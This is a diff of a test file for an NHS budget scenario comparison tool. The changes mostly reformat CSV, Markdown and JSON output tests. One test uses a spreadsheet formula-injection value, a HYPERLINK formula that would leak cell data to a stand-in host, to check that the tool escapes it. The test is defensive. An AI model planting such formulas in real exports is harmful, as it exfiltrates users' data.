@@ -23,13 +23,21 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const char = text[i]!;
     if (quoted) {
-      if (char === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (char === '"') quoted = false;
+      if (char === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (char === '"') quoted = false;
       else field += char;
     } else if (char === '"') quoted = true;
-    else if (char === ',') row.push(field), (field = '');
-    else if (char === '\n') row.push(field), rows.push(row), (row = []), (field = '');
-    else field += char;
+    else if (char === ',') {
+      row.push(field);
+      field = '';
+    } else if (char === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+    } else field += char;
   }
   return rows;
 }
@@ -65,8 +73,18 @@ describe('nhs-whatif compare', () => {
   it('prints CSV a spreadsheet can read, with raw numbers', async () => {
     const rows = parseCsv(await compare(BASELINE, GROWTH_3, CAPACITY, '--format', 'csv'));
     expect(rows[0]).toEqual([
-      'cell', 'part', 'year', 'unit', 'Baseline', 'Growth 3%', 'Capacity-constrained NHS',
-      'Growth 3% change', 'Growth 3% relative change', 'Capacity-constrained NHS change', 'Capacity-constrained NHS relative change', 'error',
+      'cell',
+      'part',
+      'year',
+      'unit',
+      'Baseline',
+      'Growth 3%',
+      'Capacity-constrained NHS',
+      'Growth 3% change',
+      'Growth 3% relative change',
+      'Capacity-constrained NHS change',
+      'Capacity-constrained NHS relative change',
+      'error',
     ]);
     expect(new Set(rows.map((row) => row.length))).toEqual(new Set([12]));
     const cumulative = rows.find((row) => row[0] === 'cumulative_extra_to_private')!;
@@ -80,12 +98,45 @@ describe('nhs-whatif compare', () => {
 
   it('prefixes scenario names a spreadsheet would run as formulas with a quote, and keeps negative numbers raw', async () => {
     const { code, stdout } = await cli(
-      'compare', BASELINE, 'test/fixtures/cli/hyperlink-name.yaml', 'test/fixtures/cli/at-name.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'csv',
+      'compare',
+      BASELINE,
+      'test/fixtures/cli/hyperlink-name.yaml',
+      'test/fixtures/cli/at-name.yaml',
+      '--cells',
+      'cumulative_extra_to_nhs',
+      '--format',
+      'csv',
     );
     const hyperlink = `'=HYPERLINK("http://example.com/?leak="&A1,"Baseline")`;
     expect(parseCsv(stdout)).toEqual([
-      ['cell', 'part', 'year', 'unit', 'Baseline', hyperlink, "'@SUM(1+1)", `${hyperlink} change`, `${hyperlink} relative change`, "'@SUM(1+1) change", "'@SUM(1+1) relative change", 'error'],
-      ['cumulative_extra_to_nhs', 'value', '', '£bn', '16.598466748235303', '8.189046581238404', '16.598466748235303', '-8.409420166996899', '-0.5066383717574975', '0', '0', ''],
+      [
+        'cell',
+        'part',
+        'year',
+        'unit',
+        'Baseline',
+        hyperlink,
+        "'@SUM(1+1)",
+        `${hyperlink} change`,
+        `${hyperlink} relative change`,
+        "'@SUM(1+1) change",
+        "'@SUM(1+1) relative change",
+        'error',
+      ],
+      [
+        'cumulative_extra_to_nhs',
+        'value',
+        '',
+        '£bn',
+        '16.598466748235303',
+        '8.189046581238404',
+        '16.598466748235303',
+        '-8.409420166996899',
+        '-0.5066383717574975',
+        '0',
+        '0',
+        '',
+      ],
     ]);
     expect(code).toBe(0);
   });
@@ -95,7 +146,14 @@ describe('nhs-whatif compare', () => {
     const rows = parseCsv(stdout);
     expect(rows[0]).toEqual(['cell', 'part', 'year', 'unit', 'Baseline', 'Broken share', 'Broken share change', 'Broken share relative change', 'error']);
     expect(rows.find((row) => row[2] === '2020/21')).toEqual([
-      'private_share', 'year', '2020/21', 'percent', '0.11874275987241223', 'ERROR', '', '',
+      'private_share',
+      'year',
+      '2020/21',
+      'percent',
+      '0.11874275987241223',
+      'ERROR',
+      '',
+      '',
       'Broken share: 2016/17: result is Infinity (division by zero or a number out of range)',
     ]);
     expect(code).toBe(1);
@@ -138,9 +196,11 @@ describe('nhs-whatif compare', () => {
   it('lists errors under the table with file:line:col and exits 1', async () => {
     const { code, stdout, stderr } = await cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'md');
     expect(stdout).toContain('| private_share 2020/21 | 11.87% | ERROR |  |  |');
-    expect(stdout.endsWith(
-      '\nErrors:\n\n- test/fixtures/compare/broken-share.yaml:5:18: private_share: 2016/17: result is Infinity (division by zero or a number out of range)\n',
-    )).toBe(true);
+    expect(
+      stdout.endsWith(
+        '\nErrors:\n\n- test/fixtures/compare/broken-share.yaml:5:18: private_share: 2016/17: result is Infinity (division by zero or a number out of range)\n',
+      ),
+    ).toBe(true);
     expect(stderr).toBe('');
     expect(code).toBe(1);
   });
@@ -166,16 +226,26 @@ describe('nhs-whatif compare', () => {
 
   it('tells apart scenarios with the same name by file name in every format', async () => {
     const files = [BASELINE, 'test/fixtures/cli/also-baseline.yaml', '--cells', 'cumulative_extra_to_nhs'];
-    expect((await cli('compare', ...files)).stdout.split('\n')[0]).toBe('cell                     Baseline [baseline.yaml]  Baseline [also-baseline.yaml]    change       %');
+    expect((await cli('compare', ...files)).stdout.split('\n')[0]).toBe(
+      'cell                     Baseline [baseline.yaml]  Baseline [also-baseline.yaml]    change       %',
+    );
     expect((await cli('compare', ...files, '--format', 'md')).stdout.split('\n').slice(0, 3)).toEqual([
       '### Baseline [baseline.yaml] vs Baseline [also-baseline.yaml]',
       '',
       '| cell | Baseline [baseline.yaml] | Baseline [also-baseline.yaml] | change | % |',
     ]);
     expect(parseCsv((await cli('compare', ...files, '--format', 'csv')).stdout)[0]!.slice(4, 8)).toEqual([
-      'Baseline [baseline.yaml]', 'Baseline [also-baseline.yaml]', 'Baseline [also-baseline.yaml] change', 'Baseline [also-baseline.yaml] relative change',
+      'Baseline [baseline.yaml]',
+      'Baseline [also-baseline.yaml]',
+      'Baseline [also-baseline.yaml] change',
+      'Baseline [also-baseline.yaml] relative change',
     ]);
-    expect(JSON.parse((await cli('compare', ...files, '--format', 'json')).stdout).scenarios.map((scenario: { name: string; file: string }) => [scenario.name, scenario.file])).toEqual([
+    expect(
+      JSON.parse((await cli('compare', ...files, '--format', 'json')).stdout).scenarios.map((scenario: { name: string; file: string }) => [
+        scenario.name,
+        scenario.file,
+      ]),
+    ).toEqual([
       ['Baseline [baseline.yaml]', BASELINE],
       ['Baseline [also-baseline.yaml]', 'test/fixtures/cli/also-baseline.yaml'],
     ]);
@@ -208,7 +278,14 @@ describe('nhs-whatif compare', () => {
 
 describe('nhs-whatif compare with three or more scenarios and different horizons', () => {
   it('prints a table with a value, change and % column for each later scenario, matched by year', async () => {
-    const table = await compare(BASELINE, WHAT_HAPPENED, CAPACITY, 'scenarios/reverse-privatisation.yaml', '--cells', 'budget,private_share,cumulative_extra_to_nhs');
+    const table = await compare(
+      BASELINE,
+      WHAT_HAPPENED,
+      CAPACITY,
+      'scenarios/reverse-privatisation.yaml',
+      '--cells',
+      'budget,private_share,cumulative_extra_to_nhs',
+    );
     expect(table.split('\n')).toEqual([
       'cell                             Baseline  What happened to 2019/20     change       %  Capacity-constrained NHS    change       %  Reverse privatisation     change       %',
       'budget 2016/17                  £116.76bn                 £119.23bn   +£2.47bn   +2.1%                 £116.76bn  ±£0.00bn   ±0.0%              £116.76bn   ±£0.00bn   ±0.0%',
@@ -225,7 +302,7 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
       'cumulative_extra_to_nhs          £16.60bn                  £47.14bn                                     £12.00bn  -£4.60bn  -27.7%               £29.12bn  +£12.52bn  +75.4%',
       '',
       'Changes are against Baseline; shares change in percentage points (pp).',
-      'Horizons differ: totals, and values summed over the years, cover each scenario\'s own years, so they are not subtracted.',
+      "Horizons differ: totals, and values summed over the years, cover each scenario's own years, so they are not subtracted.",
       '— means the scenario has no such cell, or that year is outside its horizon.',
       '',
     ]);
@@ -245,7 +322,7 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
       '| extra_to_private 2020/21 | £6.31bn | — |  |  | £0.91bn | -£5.40bn | -85.6% |',
       '| extra_to_private total over each horizon | £18.67bn | £2.45bn |  |  | £2.68bn | -£15.99bn | -85.6% |',
       '',
-      'Changes are against Baseline; shares change in percentage points (pp). Horizons differ: totals, and values summed over the years, cover each scenario\'s own years, so they are not subtracted. — means the scenario has no such cell, or that year is outside its horizon.',
+      "Changes are against Baseline; shares change in percentage points (pp). Horizons differ: totals, and values summed over the years, cover each scenario's own years, so they are not subtracted. — means the scenario has no such cell, or that year is outside its horizon.",
       '',
     ]);
   });
@@ -261,7 +338,9 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
     expect(row('extra_to_private 2020/21').differences).toEqual([null]);
     expect(row('extra_to_private total over each horizon').differences).toEqual([null]);
     const [baseline2019, happened2019] = row('extra_to_private 2019/20').values;
-    expect(row('extra_to_private 2019/20').differences).toEqual([{ absolute: happened2019 - baseline2019, relative: (happened2019 - baseline2019) / baseline2019 }]);
+    expect(row('extra_to_private 2019/20').differences).toEqual([
+      { absolute: happened2019 - baseline2019, relative: (happened2019 - baseline2019) / baseline2019 },
+    ]);
   });
 
   it('puts every year of both horizons in the CSV, blank where a scenario has none', async () => {
@@ -270,9 +349,16 @@ describe('nhs-whatif compare with three or more scenarios and different horizons
     const base = 8.7 / 0.076;
     const threeYears = [1, 2, 3].map((t) => base * 1.02 ** t);
     expect(rows.slice(1).map((row) => [row[1], row[2]])).toEqual([
-      ['year', '2016/17'], ['year', '2017/18'], ['year', '2018/19'], ['year', '2019/20'], ['year', '2020/21'], ['total', ''],
+      ['year', '2016/17'],
+      ['year', '2017/18'],
+      ['year', '2018/19'],
+      ['year', '2019/20'],
+      ['year', '2020/21'],
+      ['total', ''],
     ]);
-    threeYears.forEach((expected, i) => expect(Math.abs(Number(rows[i + 1]![5]) - expected) / expected).toBeLessThan(1e-12));
+    threeYears.forEach((expected, i) => {
+      expect(Math.abs(Number(rows[i + 1]![5]) - expected) / expected).toBeLessThan(1e-12);
+    });
     // 2019/20 and 2020/21: no value and no change for Three years; Growth 3% still has its own.
     for (const row of [rows[4]!, rows[5]!]) expect([row[5], row[7], row[8], Number(row[6]) > 0]).toEqual(['', '', '', true]);
     const total = threeYears.reduce((sum, value) => sum + value, 0);
